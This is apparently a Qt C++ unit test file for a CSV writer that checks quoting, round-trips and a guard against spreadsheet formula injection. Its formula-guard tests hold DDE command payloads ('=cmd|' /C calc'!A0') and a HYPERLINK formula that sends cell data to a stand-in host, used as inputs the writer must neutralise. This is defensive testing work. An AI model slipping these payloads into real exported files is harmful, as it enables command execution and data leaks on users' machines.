#include "csvreader.h"
#include "csvwriter.h"

#include <QBuffer>
#include <QStandardPaths>
#include <QTest>

using namespace Qt::StringLiterals;
using Sspr::Core::CsvReader;
using Sspr::Core::CsvRecord;
using Sspr::Core::CsvWriter;
using FormulaGuard = Sspr::Core::CsvWriter::FormulaGuard;

namespace {

QList<QStringList> readBack(const QByteArray &bytes, QChar separator)
{
    CsvReader::Options options;
    options.separator = separator;
    CsvReader reader(options);
    const auto table = reader.readAll(bytes);
    if (!table) {
        qWarning("%s", qPrintable(table.errorMessage()));
        return {};
    }
    QList<QStringList> rows;
    for (const CsvRecord &record : table->records)
        rows.append(record.fields);
    return rows;
}

} // namespace

class TestCsvWriter final : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }

    void formatRecord_data()
    {
        QTest::addColumn<QStringList>("fields");
        QTest::addColumn<QString>("expected");

        QTest::newRow("plain") << QStringList {u"alice@contoso.com"_s, u"ok"_s} << u"alice@contoso.com,ok\r\n"_s;
        QTest::newRow("separator") << QStringList {u"Smith, John"_s} << u"\"Smith, John\"\r\n"_s;
        QTest::newRow("quotes") << QStringList {u"say \"hi\""_s, u"x"_s} << u"\"say \"\"hi\"\"\",x\r\n"_s;
        QTest::newRow("line breaks") << QStringList {u"a\nb"_s, u"c\r\nd"_s, u"e\rf"_s}
                                     << u"\"a\nb\",\"c\r\nd\",\"e\rf\"\r\n"_s;
        QTest::newRow("edge blanks") << QStringList {u" a"_s, u"b "_s, u"c d"_s} << u"\" a\",\"b \",c d\r\n"_s;
        QTest::newRow("empty fields") << QStringList {QString(), QString()} << u",\r\n"_s;
        QTest::newRow("one empty field is not an empty line") << QStringList {QString()} << u"\"\"\r\n"_s;
        QTest::newRow("no fields") << QStringList {} << u"\r\n"_s;
        QTest::newRow("unicode") << QStringList {u"jürgen@contoso.de"_s, u"😀"_s} << u"jürgen@contoso.de,😀\r\n"_s;
        QTest::newRow("NUL replaced") << QStringList {u"a"_s + QChar(0) + u"b"_s} << u"a\uFFFDb\r\n"_s;
    }

    void formatRecord()
    {
        QFETCH(QStringList, fields);
        QFETCH(QString, expected);
        QCOMPARE(CsvWriter::formatRecord(fields, CsvWriter::Options()), expected);
    }

    void formulaGuard_data()
    {
        QTest::addColumn<QString>("field");
        QTest::addColumn<QString>("exceptNumbers"); // as written by the default guard, before quoting
        QTest::addColumn<QString>("all"); // with FormulaGuard::PrefixAll

        const auto row = [](const char *name, const QString &field, const QString &exceptNumbers, const QString &all) {
            QTest::newRow(name) << field << exceptNumbers << all;
        };
        row("DDE", u"=cmd|' /C calc'!A0"_s, u"'=cmd|' /C calc'!A0"_s, u"'=cmd|' /C calc'!A0"_s);
        row("HYPERLINK", u"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_s,
            u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_s, u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"_s);
        row("plus formula", u"+cmd|' /C calc'!A0"_s, u"'+cmd|' /C calc'!A0"_s, u"'+cmd|' /C calc'!A0"_s);
        row("minus formula", u"-2+3+cmd|' /C calc'!A0"_s, u"'-2+3+cmd|' /C calc'!A0"_s, u"'-2+3+cmd|' /C calc'!A0"_s);
        row("at", u"@SUM(1+1)*cmd|' /C calc'!A0"_s, u"'@SUM(1+1)*cmd|' /C calc'!A0"_s,
            u"'@SUM(1+1)*cmd|' /C calc'!A0"_s);
        row("plus cell reference", u"+A1"_s, u"'+A1"_s, u"'+A1"_s);
        row("tab", u"\t=1+1"_s, u"'\t=1+1"_s, u"'\t=1+1"_s);
        row("CR", u"\r=1+1"_s, u"'\r=1+1"_s, u"'\r=1+1"_s);
        row("E.164 phone", u"+14255550100"_s, u"+14255550100"_s, u"'+14255550100"_s);
        row("Graph phone", u"+1 4255550100"_s, u"+1 4255550100"_s, u"'+1 4255550100"_s);
        row("formatted phone", u"+1 (425) 555-0100"_s, u"+1 (425) 555-0100"_s, u"'+1 (425) 555-0100"_s);
        row("phone with extension", u"+1 4255550100x123"_s, u"+1 4255550100x123"_s, u"'+1 4255550100x123"_s);
        row("dotted phone", u"+49.170.1234567"_s, u"+49.170.1234567"_s, u"'+49.170.1234567"_s);
        row("negative number", u"-42"_s, u"-42"_s, u"'-42"_s);
        row("sign only", u"+"_s, u"'+"_s, u"'+"_s);
        row("signs and spaces", u"- -"_s, u"'- -"_s, u"'- -"_s);
        row("extension without digits", u"+1 425x"_s, u"'+1 425x"_s, u"'+1 425x"_s);
        row("letters after a number", u"+1 425 CALL"_s, u"'+1 425 CALL"_s, u"'+1 425 CALL"_s);
        row("exponent", u"+1E5"_s, u"'+1E5"_s, u"'+1E5"_s);
        row("email at the start", u"@contoso"_s, u"'@contoso"_s, u"'@contoso"_s);
        row("harmless", u"alice@contoso.com"_s, u"alice@contoso.com"_s, u"alice@contoso.com"_s);
        row("national phone", u"0170 1234567"_s, u"0170 1234567"_s, u"0170 1234567"_s);
        row("formula later in the text", u"a=1+1"_s, u"a=1+1"_s, u"a=1+1"_s);
        row("empty", QString(), QString(), QString());
    }

    void formulaGuard()
    {
        QFETCH(QString, field);
        QFETCH(QString, exceptNumbers);
        QFETCH(QString, all);
        QCOMPARE(CsvWriter::neutralised(field, FormulaGuard::PrefixExceptNumbers), exceptNumbers);
        QCOMPARE(CsvWriter::neutralised(field, FormulaGuard::PrefixAll), all);
        QCOMPARE(CsvWriter::neutralised(field, FormulaGuard::None), field);

        // Through a whole file: what a reader (or a spreadsheet) sees starts with the apostrophe.
        CsvWriter::Options options;
        QCOMPARE(readBack(CsvWriter::toCsv({{u"user"_s, field}}, options), u','),
            (QList<QStringList> {{u"user"_s, exceptNumbers}}));
        options.formulaGuard = FormulaGuard::PrefixAll;
        QCOMPARE(
            readBack(CsvWriter::toCsv({{u"user"_s, field}}, options), u','), (QList<QStringList> {{u"user"_s, all}}));
    }

    void formulaFieldsNeverWrittenBare()
    {
        // No record of the report may start a field with a formula character, whatever the import file held.
        const QStringList hostile {u"=cmd|' /C calc'!A0"_s, u"+cmd|'/C calc'!A0"_s, u"-cmd|'/C calc'!A0"_s,
            u"@cmd|'/C calc'!A0"_s, u"\t=1"_s, u"\r=1"_s};
        const QByteArray bytes = CsvWriter::toCsv({hostile});
        const QList<QStringList> rows = readBack(bytes, u',');
        QCOMPARE(rows.size(), 1);
        for (const QString &field : rows.front())
            QVERIFY2(field.startsWith(u'\''), qPrintable(field));
    }

    void roundTrip_data()
    {
        QTest::addColumn<QList<QStringList>>("records");

        QTest::newRow("awkward") << QList<QStringList> {
            {u"upn"_s, u"value"_s, u"outcome"_s, u"message"_s},
            {u"a,b"_s, u"say \"hi\""_s, u"\"\""_s, u"line1\nline2"_s},
            {u"c\r\nd"_s, u"e\rf"_s, u" lead"_s, u"trail "_s},
            {QString(), QString(), QString(), QString()},
            {QString()},
            {u"x;y"_s, u"tab\there"_s, u"😀 jürgen 二"_s, u"\uFEFFbom"_s},
            {u"\""_s},
            {u"sep=;"_s},
        };
        QTest::newRow("first field looks like a directive")
            << QList<QStringList> {{u"sep=;"_s, u"x"_s}, {u"a"_s, u"b"_s}};
        QTest::newRow("first field starts with a BOM") << QList<QStringList> {{u"\uFEFFx"_s, u"y"_s}};
        QTest::newRow("first field ID") << QList<QStringList> {{u"ID"_s, u"name"_s}, {u"1"_s, u"x"_s}};
        QTest::newRow("ragged") << QList<QStringList> {{u"a"_s}, {u"b"_s, u"c"_s, u"d"_s}, {u"e"_s, QString()}};
        QTest::newRow("phone numbers") << QList<QStringList> {{u"+1 4255550100"_s, u"+1 (425) 555-0100 x12"_s}};
    }

    void roundTrip()
    {
        QFETCH(QList<QStringList>, records);
        for (const QChar separator : {QChar(u','), QChar(u';'), QChar(u'\t')}) {
            for (const bool bom : {true, false}) {
                for (const bool crlf : {true, false}) {
                    CsvWriter::Options options;
                    options.separator = separator;
                    options.byteOrderMark = bom;
                    options.crlf = crlf;
                    options.formulaGuard = FormulaGuard::None;
                    const QByteArray bytes = CsvWriter::toCsv(records, options);
                    QCOMPARE(bytes.startsWith("\xEF\xBB\xBF"), bom);
                    QCOMPARE(readBack(bytes, separator), records);

                    // The default guard leaves these values alone too: none starts with a formula character.
                    options.formulaGuard = FormulaGuard::PrefixExceptNumbers;
                    QCOMPARE(readBack(CsvWriter::toCsv(records, options), separator), records);
                }
            }
        }
    }

    void sylkAndDirective_quotedAtTheStartOnly()
    {
        CsvWriter::Options options;
        options.byteOrderMark = false;
        QCOMPARE(CsvWriter::toCsv({{u"ID"_s, u"x"_s}, {u"ID"_s, u"sep=,"_s}}, options),
            QByteArray("\"ID\",x\r\nID,\"sep=,\"\r\n"));
        QCOMPARE(CsvWriter::toCsv({{u"sep=,"_s}}, options), QByteArray("\"sep=,\"\r\n"));
        options.byteOrderMark = true;
        QCOMPARE(CsvWriter::toCsv({{u"ID"_s}}, options), QByteArray("\xEF\xBB\xBFID\r\n"));
    }

    void writer_reportsErrors()
    {
        QBuffer readOnly;
        readOnly.open(QIODevice::ReadOnly);
        CsvWriter writer(&readOnly);
        QVERIFY(!writer.writeRecord({u"a"_s}));
        QCOMPARE(writer.recordsWritten(), 0);

        QByteArray bytes;
        QBuffer buffer(&bytes);
        buffer.open(QIODevice::WriteOnly);
        CsvWriter::Options options;
        options.separator = u'"';
        CsvWriter badSeparator(&buffer, options);
        QVERIFY(!badSeparator.writeRecord({u"a"_s}));
        QVERIFY(bytes.isEmpty());

        CsvWriter good(&buffer);
        QVERIFY(good.writeRecord({u"a"_s}));
        QVERIFY(good.writeRecord({u"b"_s}));
        QCOMPARE(good.recordsWritten(), 2);
        QCOMPARE(bytes,
            QByteArray("\xEF\xBB\xBF"
                       "a\r\nb\r\n"));
    }
};

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
